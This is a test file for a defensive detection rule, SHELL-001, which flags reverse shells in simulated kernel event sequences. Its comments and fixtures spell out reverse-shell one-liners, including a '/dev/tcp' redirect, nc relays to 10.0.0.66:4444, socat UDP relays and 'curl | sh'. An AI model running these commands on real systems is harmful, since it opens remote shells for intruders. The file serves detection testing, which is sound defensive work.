/**
 * SHELL-001 over hand-made event sequences shaped like what the kernel reports (the kernel tier
 * runs the programs): a read loop fed through a pipe, the split shell, a renamed shell running
 * commands; and the benign sides: `curl … | sh`, a login's `sh -s` under sshd, a data pipeline.
 */
import { describe, expect, it } from "vitest";
import { Engine, ProcessTable, builtinRules, createShell001Rule, type Finding, type SensorEvent } from "sockeye";
import { at, connectedOut, exit, inet, pipe, proc, silentLogger, start, tty } from "../engine/fixtures.js";
import { fakeHost } from "../host/fake-host.js";

const SOCK = 9001;

function run(events: SensorEvent[], all = false) {
  const host = fakeHost();
  const rules = all ? builtinRules() : [createShell001Rule()];
  const engine = new Engine({ rules, processes: new ProcessTable({ host }), hostName: "h", now: () => at(0), logger: silentLogger });
  const findings: Finding[] = [];
  for (const e of events) findings.push(...engine.handle(e));
  return findings;
}

type Behaviour = Finding & { sockeye: { verdict: { identified_by: string }; behaviour: { interpreter: { pid: number }; commands: { args: string[] }[] } } };

const bash = proc(100, 1, "bash");
const cat = proc(101, 100, "cat");
const loop = proc(102, 100, "bash");
const command = (pid: number, parent: number, args: string[], stdio: Parameters<typeof start>[3], ms: number) =>
  [...start(proc(pid, parent, args[0]!), `/usr/bin/${args[0]}`, args, stdio, ms), exit({ task: proc(pid, parent, args[0]!), timeMs: at(ms + 1) })];

describe("SHELL-001: a command interpreter by what it does", () => {
  it("the read loop fed through a pipe: `cat <&5 | while read line; do $line >&5; done`, one finding at the second command", () => {
    const findings = run([
      connectedOut(bash, SOCK, 0),
      ...start(cat, "/usr/bin/cat", ["cat"], [inet(SOCK), pipe(11), tty(1)], 10),
      ...command(200, 102, ["id"], [pipe(11), inet(SOCK), inet(SOCK)], 100),
      ...command(201, 102, ["uname", "-a"], [pipe(11), inet(SOCK), inet(SOCK)], 200),
      ...command(202, 102, ["ls"], [pipe(11), inet(SOCK), inet(SOCK)], 300),
    ], true);
    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
    const f = findings[0] as Behaviour;
    expect(f.sockeye.verdict.identified_by).toBe("behaviour");
    expect(f.sockeye.behaviour.interpreter.pid).toBe(loop.pid);
    expect(f.sockeye.behaviour.commands.map((c) => c.args[0])).toEqual(["id", "uname"]);
  });

  it("the split shell `nc H P1 | bash -i >& /dev/tcp/H/P2`: at bash's exec, by name, even when nc connects after it", () => {
    const nc = proc(110, 100, "nc");
    const sh = proc(111, 100, "bash");
    const findings = run([
      ...start(nc, "/usr/bin/nc", ["nc", "10.0.0.66", "4444"], [tty(1), pipe(21), tty(1)], 0),
      ...start(sh, "/usr/bin/bash", ["bash", "-i"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 1),
      connectedOut(nc, SOCK, 5),
      ...command(300, 111, ["id"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 100),
      ...command(301, 111, ["id"], [pipe(21), inet(SOCK + 1), inet(SOCK + 1)], 200),
    ], true);
    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("name");
    expect(findings[0]!.process.pid).toBe(111);
  });

  it("past its bound, an interpreter waiting for its input's connect is dropped as abandoned (SENSOR-001), not housekeeping", () => {
    const engine = new Engine({ rules: [createShell001Rule()], processes: new ProcessTable({ host: fakeHost() }), hostName: "h", now: () => at(0), logger: silentLogger });
    for (let i = 0; i < 257; i++) {
      for (const e of start(proc(1000 + i, 100, "bash"), "/usr/bin/bash", ["bash", "-i"], [pipe(5000 + i), inet(SOCK + 1), inet(SOCK + 1)], i)) engine.handle(e);
    }
    expect(engine.stats().ruleState["SHELL-001"]).toMatchObject({ abandoned: 1 });
  });

  /** `nc h 1 | k3f9 | nc h 2`: a renamed shell (no name, no content known) between two connections. */
  const ncA = proc(120, 100, "nc");
  const ncB = proc(122, 100, "nc");
  const renamedBetweenNcs = [
    ...start(ncA, "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 0),
    ...start(proc(121, 100, "k3f9"), "/tmp/q/k3f9", ["k3f9"], [pipe(31), pipe(32), pipe(32)], 1),
    ...start(ncB, "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
    connectedOut(ncA, SOCK, 5),
    connectedOut(ncB, SOCK + 1, 6),
  ];
  /** A command the renamed shell starts on the relay's pipes. */
  const commandOfX = (pid: number, args: string[], ms: number) => command(pid, 121, args, [pipe(31), pipe(32), pipe(32)], ms);

  it("a renamed shell (no name, no content known) behind `nc | X | nc`: its commands decide", () => {
    const findings = run([...renamedBetweenNcs, ...commandOfX(400, ["id"], 100), ...commandOfX(401, ["ls"], 200)]);
    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("behaviour");
  });

  it("the same between two UDP sockets that never connected (their first sends, cgroup/sendmsg): its commands decide", () => {
    // `socat UDP-SENDTO:h:1 - | X | socat - UDP-SENDTO:h:2`: each socat's socket is named by
    // its first send (fd -1, unconnected), not by a connect.
    const unconnected = (p: typeof ncA, ino: number, ms: number, port: number): SensorEvent =>
      ({ ...connectedOut(p, ino, ms, { address: "10.0.0.66", port }), fd: -1, transport: "udp", unconnected: true });
    const viaUdp = [...renamedBetweenNcs.slice(0, -2), unconnected(ncA, SOCK, 5, 1), unconnected(ncB, SOCK + 1, 6, 2)];
    const findings = run([...viaUdp, ...commandOfX(400, ["id"], 100), ...commandOfX(401, ["ls"], 200)]);
    expect(findings.map((f) => f.rule.id)).toEqual(["SHELL-001"]);
    expect((findings[0] as Behaviour).sockeye.verdict.identified_by).toBe("behaviour");
    expect(findings[0]).toMatchObject({ network: { transport: "udp" }, destination: { port: 1 } });
    // A TCP relay of the same shape still says tcp.
    expect(run([...renamedBetweenNcs, ...commandOfX(400, ["id"], 100), ...commandOfX(401, ["ls"], 200)])[0]).toMatchObject({ network: { transport: "tcp" } });
  });

  it("an attacker who waits past the age bound is still followed: commands two hours apart behind `nc | X | nc`, while the processes live", () => {
    const twoHours = 2 * 60 * 60_000;
    const setup = [...renamedBetweenNcs, ...commandOfX(400, ["id"], 100)];
    const later = commandOfX(401, ["ls"], twoHours);
    // An unrelated exec an hour in, so the sweep runs with the first command already old.
    const tick = start(proc(900, 1, "cron"), "/usr/sbin/cron", ["cron"], [tty(1), tty(1), tty(1)], twoHours / 2 + 10);
    const waited = run([...setup, ...tick, ...later]);
    expect(waited.map((f) => [f.rule.id, (f as Behaviour).sockeye.behaviour.commands.map((c) => c.args[0])])).toEqual([["SHELL-001", ["id", "ls"]]]);
    // The relay's ends gone (their exits seen): an hour on, what they fed is forgotten, not followed.
    const gone = run([...setup, exit({ task: ncA, timeMs: at(1000) }), exit({ task: ncB, timeMs: at(1001) }), ...tick, ...later]);
    expect(gone).toEqual([]);
  });

  const quiet: { name: string; events: SensorEvent[] }[] = [
    {
      name: "curl … | sh: the commands' output goes to the caller, not back to the connection",
      events: [
        ...start(proc(130, 100, "curl"), "/usr/bin/curl", ["curl", "-s", "http://h/x"], [tty(1), pipe(41), tty(1)], 0),
        connectedOut(proc(130, 100, "curl"), SOCK, 1),
        ...start(proc(131, 100, "sh"), "/bin/sh", ["sh"], [pipe(41), tty(1), tty(1)], 1),
        ...command(500, 131, ["id"], [pipe(41), tty(1), tty(1)], 100),
        ...command(501, 131, ["ls"], [pipe(41), tty(1), tty(1)], 200),
      ],
    },
    {
      name: "ssh host 'sh -s' < script, the server's side: sshd accepted the connection, no outbound socket feeds the shell",
      events: [
        ...start(proc(140, 1, "sshd"), "/usr/sbin/sshd", ["sshd", "-R"], [inet(SOCK, "accepted"), inet(SOCK, "accepted"), tty(1)], 0),
        ...start(proc(141, 140, "sh"), "/bin/sh", ["sh", "-s"], [pipe(51), pipe(52), pipe(53)], 10),
        ...command(600, 141, ["id"], [pipe(51), pipe(52), pipe(53)], 100),
        ...command(601, 141, ["ls"], [pipe(51), pipe(52), pipe(53)], 200),
      ],
    },
    {
      name: "a data pipeline `curl | gzip -d | nc` run twice: a new pipe each time",
      events: [1, 2].flatMap((i) => [
        ...start(proc(150 + 10 * i, 100, "curl"), "/usr/bin/curl", ["curl", "http://h/x"], [tty(1), pipe(60 + i), tty(1)], 100 * i),
        connectedOut(proc(150 + 10 * i, 100, "curl"), SOCK + i, 100 * i + 1),
        ...start(proc(151 + 10 * i, 100, "nc"), "/usr/bin/nc", ["nc", "h", "9"], [pipe(70 + i), tty(1), tty(1)], 100 * i),
        connectedOut(proc(151 + 10 * i, 100, "nc"), SOCK + 10 + i, 100 * i + 1),
        ...command(152 + 10 * i, 100, ["gzip", "-d"], [pipe(60 + i), pipe(70 + i), tty(1)], 100 * i + 2),
      ]),
    },
  ];
  it.each(quiet)("quiet: $name", ({ events }) => {
    expect(run(events, true)).toEqual([]);
  });
});

describe("SHELL-001: programs, not execs", () => {
  it("`sh -c id` exec'ing id in place is one command: no finding until a second process", () => {
    const events = [
      connectedOut(bash, SOCK, 0),
      ...start(cat, "/usr/bin/cat", ["cat"], [inet(SOCK), pipe(11), tty(1)], 10),
      ...start(proc(200, 102, "sh"), "/bin/sh", ["sh", "-c", "id"], [pipe(11), inet(SOCK), inet(SOCK)], 100),
      ...command(200, 102, ["id"], [pipe(11), inet(SOCK), inet(SOCK)], 101),
    ];
    expect(run(events)).toEqual([]);
    expect(run([...events, ...command(201, 102, ["ls"], [pipe(11), inet(SOCK), inet(SOCK)], 200)]).map((f) => f.rule.id)).toEqual(["SHELL-001"]);
  });
});
